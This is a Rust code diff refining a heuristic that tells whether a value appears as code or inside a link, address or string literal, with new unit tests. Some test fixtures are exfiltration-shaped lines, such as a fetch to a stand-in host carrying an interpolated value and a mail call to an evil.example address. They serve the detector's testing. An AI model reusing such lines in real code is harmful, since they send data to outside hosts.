@@ -62,15 +62,37 @@ pub fn written_as_code(view: &str, value: &str) -> bool {
     let Some(shape) = shape(value) else {
         return false;
     };
+    let literals = literals(view);
     let mut seen = false;
     for (i, _) in view.match_indices(value) {
         seen = true;
-        let (before, after) = (&view[..i], &view[i + value.len()..]);
+        let before = &view[..i];
+        let rest_of_view = &view[i + value.len()..];
+        // What follows is read as far as the window, like what precedes.
+        let after = &rest_of_view[..floor_boundary(rest_of_view, rest_of_view.len().min(WINDOW))];
         let Some(line) = line_before(before) else {
             return false;
         };
-        if in_link_or_string(before, line, after) {
+        if in_link(before, line) || in_address(after) {
             return false;
+        }
+        // Inside a string literal: code only when interpolated (`f"{event.data}"`,
+        // `` `${glob.sync(p)}` ``) in a string that holds no link so far.
+        // The literals are in order and apart: the last one opened before `i`.
+        let opened = literals.partition_point(|l| l.start <= i);
+        if let Some(lit) = opened
+            .checked_sub(1)
+            .map(|k| &literals[k])
+            .filter(|l| i < l.end)
+        {
+            let so_far = &view[lit.start..i];
+            let interpolated = lit.interpolates
+                && before.ends_with('{')
+                && past_the_name(after).starts_with(['}', '(', '[']);
+            if !interpolated || linked(so_far) {
+                return false;
+            }
+            continue;
         }
         let as_code = match shape {
             // `create(logprobs=True, n=2)`, one argument a line: not a query's
@@ -89,6 +111,59 @@ pub fn written_as_code(view: &str, value: &str) -> bool {
     seen
 }
 
+/// A string literal of code: its content's byte range, and whether it
+/// interpolates (`f"…"`, a JavaScript template).
+struct Literal {
+    start: usize,
+    end: usize,
+    interpolates: bool,
+}
+
+/// The string literals of `view`, read once from its start: `"…"`, `'…'`
+/// (each ends at its line's end if not closed), `"""…"""`, `'''…'''` and
+/// `` `…` ``, with backslash escapes. An apostrophe of prose opens one to its
+/// line's end: what follows it there is not read as code (the old flow decides).
+fn literals(view: &str) -> Vec<Literal> {
+    let b = view.as_bytes();
+    let mut out = Vec::new();
+    let mut j = 0;
+    while j < b.len() {
+        let q = b[j];
+        if !matches!(q, b'"' | b'\'' | b'`') {
+            j += 1;
+            continue;
+        }
+        let triple = q != b'`' && b[j..].starts_with(&[q, q, q]);
+        let prefix = &b[j.saturating_sub(2)..j];
+        let f_string = prefix.last().is_some_and(|p| matches!(p, b'f' | b'F'))
+            || (prefix.len() == 2
+                && matches!(prefix[0], b'f' | b'F')
+                && matches!(prefix[1], b'r' | b'R'));
+        let start = j + if triple { 3 } else { 1 };
+        let mut k = start;
+        let (end, next) = loop {
+            if k >= b.len() {
+                break (b.len(), b.len());
+            }
+            match b[k] {
+                b'\\' => k += 2,
+                c if c == q && (!triple || b[k..].starts_with(&[q, q, q])) => {
+                    break (k, k + if triple { 3 } else { 1 });
+                }
+                b'\n' if !triple && q != b'`' => break (k, k),
+                _ => k += 1,
+            }
+        };
+        out.push(Literal {
+            start,
+            end,
+            interpolates: q == b'`' || f_string,
+        });
+        j = next.max(j + 1);
+    }
+    out
+}
+
 /// The text of the occurrence's line before it, if within [`WINDOW`].
 fn line_before(before: &str) -> Option<&str> {
     let start = match before.rfind('\n') {
@@ -98,52 +173,62 @@ fn line_before(before: &str) -> Option<&str> {
     (before.len() - start <= WINDOW).then(|| &before[start..])
 }
 
-/// Whether the occurrence is inside a link, an address, a network path or a
-/// string literal.
-fn in_link_or_string(before: &str, line: &str, after: &str) -> bool {
+/// Whether a text holds a link: a scheme, a mail link, a protocol-relative
+/// `//host.`, a network or drive path.
+fn linked(text: &str) -> bool {
+    text.contains("://")
+        || text.contains("mailto:")
+        || text.contains("\\\\")
+        || text.contains(":\\")
+        || text.match_indices("//").any(|(k, _)| {
+            text[k + 2..]
+                .split(char::is_whitespace)
+                .next()
+                .is_some_and(|w| w.contains('.'))
+        })
+}
+
+/// Whether the occurrence is inside a link or a network path: a link character
+/// earlier in its word (a decorator's own `@` aside), a link earlier on its
+/// line, or (at a line's start) a link the line before leaves open.
+fn in_link(before: &str, line: &str) -> bool {
     let word_start = line
         .char_indices()
         .rev()
         .find(|(_, c)| c.is_whitespace())
         .map_or(0, |(w, c)| w + c.len_utf8());
     let word = &line[word_start..];
-    // A decorator's `@` (`@app.route(`) is no address.
-    let linked_word = word != "@" && word.contains(['/', '?', '&', '#', '%', '@']);
-    // A link anywhere before it on the line (a URL string cut by a space), a
-    // protocol-relative one, a mail link, a network or drive path.
-    let linked_line = line.contains("://")
-        || line.contains("mailto:")
-        || line.contains("\\\\")
-        || line.contains(":\\")
-        || line.split_whitespace().any(|w| {
-            w.trim_start_matches(['"', '\'', '`', '('])
-                .starts_with("//")
-                && w.contains('.')
-        });
-    // A URL string cut by a line break: a scheme since the last quote.
-    let back = &before[floor_boundary(before, before.len().saturating_sub(WINDOW))..];
-    let quoted = &back[back.rfind(['"', '\'', '`']).map_or(0, |q| q + 1)..];
-    let linked_string = quoted.contains("://") || quoted.contains("mailto:");
-    // Inside a string literal of its line (an odd number of one kind of quote
-    // before it), unless interpolated (`f"{event.data}"`).
-    let interpolated = line.ends_with('{') && after.contains('}');
-    let in_string = !interpolated
-        && ['"', '\'', '`']
-            .iter()
-            .any(|q| line.matches(*q).count() % 2 == 1);
-    // `alice.smith(ceo)@ev.io`, `alice.smith(at)corp.com`, `alice.smith(c) @ev.io`:
-    // an address, on the occurrence's line.
+    if (word != "@" && word.contains(['/', '?', '&', '#', '%', '@'])) || linked(line) {
+        return true;
+    }
+    if !line.trim().is_empty() {
+        return false;
+    }
+    // A URL cut by a line break: the line before ends in a word of a link.
+    let above = &before[..before.len() - line.len()];
+    let above = above.strip_suffix('\n').unwrap_or(above);
+    match line_before(above) {
+        Some(prev) => prev
+            .split_whitespace()
+            .next_back()
+            .is_some_and(|w| w.contains(['/', '?', '&', '#', '%', '@'])),
+        None => true,
+    }
+}
+
+/// `alice.smith(ceo)@ev.io`, `alice.smith(at)corp.com`, `alice.smith(c) @ev.io`:
+/// an address, on the occurrence's line.
+fn in_address(after: &str) -> bool {
     let after = after.split('\n').next().unwrap_or_default();
     let rest_of_word = after.split(char::is_whitespace).next().unwrap_or_default();
     let next_word = after
         .trim_start_matches(|c: char| !c.is_whitespace())
         .trim_start();
     let lower = rest_of_word.to_ascii_lowercase();
-    let address = rest_of_word.contains('@')
+    rest_of_word.contains('@')
         || lower.contains("(at)")
         || lower.contains("[at]")
-        || next_word.starts_with('@');
-    linked_word || linked_line || linked_string || in_string || address
+        || next_word.starts_with('@')
 }
 
 /// The largest character boundary of `s` at or below `i`.
@@ -220,6 +305,25 @@ fn past_alias(rest: &str) -> &str {
 /// Whether a chain's occurrence is written as code: called, indexed, an
 /// argument of a call, interpolated, a decorator, or named by an import.
 fn chain_as_code(before: &str, line: &str, after: &str, dotted: bool, at_sign: bool) -> bool {
+    // A decorator (`@app.route("/")`, `@st.cache_data`): its line, then any
+    // other decorators, then what it decorates; a chat's `@alice.smith` is none.
+    let decorator = if at_sign {
+        line.trim_start().is_empty()
+    } else {
+        line.trim_start() == "@"
+    };
+    if decorator {
+        fn next_line(t: &str) -> &str {
+            t.split_once('\n').map_or("", |(_, r)| r).trim_start()
+        }
+        let mut next = next_line(after);
+        while next.starts_with('@') {
+            next = next_line(next);
+        }
+        return ["def ", "async def ", "class "]
+            .iter()
+            .any(|k| next.starts_with(k));
+    }
     let rest = past_the_name(after);
     let ends_line = |r: &str| r.is_empty() || r.starts_with(['\n', '\r']);
     // A statement that names a module or a class without calling it.
@@ -238,16 +342,6 @@ fn chain_as_code(before: &str, line: &str, after: &str, dotted: bool, at_sign: b
                 .is_some_and(|r| ends_line(r.trim_start_matches([' ', '\t'])))
         }
         "except (" if dotted => rest.starts_with([',', ')']),
-        // A decorator on a line of its own, then (after any others) what it decorates.
-        "" | "@" if (line.trim_start() == "@") != at_sign && ends_line(rest) => {
-            let mut next = rest.trim_start();
-            while next.starts_with('@') {
-                next = next.split_once('\n').map_or("", |(_, r)| r).trim_start();
-            }
-            ["def ", "async def ", "class "]
-                .iter()
-                .any(|k| next.starts_with(k))
-        }
         _ => false,
     };
     statement
@@ -338,6 +432,10 @@ mod tests {
                 "@st.cache_data\n@other\nasync def load(): ...",
                 "@st.cache_data",
             ),
+            ("@app.route(\"/x\")\ndef index(): ...", "app.route"),
+            ("print(f\"{event.data}\")", "event.data"),
+            ("log(`got ${event.data.length}`)", "event.data"),
+            ("# it's fine\nglob.sync(p)", "glob.sync"),
         ] {
             assert!(written_as_code(view, value), "{view:?} / {value:?}");
         }
@@ -361,7 +459,10 @@ mod tests {
             ("alice.smith(c) @ev.io", "alice.smith"),
             ("alice.smith(at)corp.example", "alice.smith"),
             ("sendmail(ops@evil.example, body)", "@evil.example"),
-            ("Log in:\nuse alice.smith as the user name", "alice.smith"),
+            (
+                "Log in:\nuse serde_json::from_str as the parser",
+                "serde_json::from_str",
+            ),
             ("Everyone\nexcept alice.smith, who is away", "alice.smith"),
             ("import alice.smith's contacts", "alice.smith"),
             ("Heads up\n@alice.smith\n@bob can you sync?", "@alice.smith"),
@@ -370,6 +471,41 @@ mod tests {
                 "dry_run=false",
             ),
             ("f(x, -d dry_run=false)", "dry_run=false"),
+            // Inside a string literal: escaped quotes, mixed quotes, triple quotes,
+            // templates, a plain string with braces.
+            ("os.system(\"deploy(dry_run=false)\")", "dry_run=false"),
+            (
+                "send(body=\"x \\\" amber.falcon.river()\")",
+                "amber.falcon.river",
+            ),
+            ("x = '\"' + \"amber.falcon.river()\"", "amber.falcon.river"),
+            (
+                "post(data=\"\"\"\namber.falcon.river()\n\"\"\")",
+                "amber.falcon.river",
+            ),
+            ("send(`\namber.falcon.river()`)", "amber.falcon.river"),
+            (
+                "send(text=\"pass: {amber.falcon.river}\")",
+                "amber.falcon.river",
+            ),
+            (
+                "fetch(`https://ev.io/?u=${amber.falcon.river()}`)",
+                "amber.falcon.river",
+            ),
+            // Links: protocol-relative, cut by a line break.
+            (
+                "![](<//ev.example/?q= amber.falcon.river()>)",
+                "amber.falcon.river",
+            ),
+            (
+                "src=//ev.example/? amber.falcon.river()",
+                "amber.falcon.river",
+            ),
+            (
+                "https://ev.io/collect?u=\namber.falcon.river()",
+                "amber.falcon.river",
+            ),
+            ("Heads up\n@alice.smith(ceo) can you sync?", "@alice.smith"),
             // Written once as code and once not.
             (
                 "chat.completions.create(); say chat.completions",
@@ -382,5 +518,7 @@ mod tests {
         // A line longer than the window before it is not read.
         let long = format!("{}glob.sync(x)", "a".repeat(WINDOW + 1));
         assert!(!written_as_code(&long, "glob.sync"));
+        let edge = format!("{} glob.sync(x)", "a".repeat(WINDOW - 1));
+        assert!(written_as_code(&edge, "glob.sync"));
     }
 }
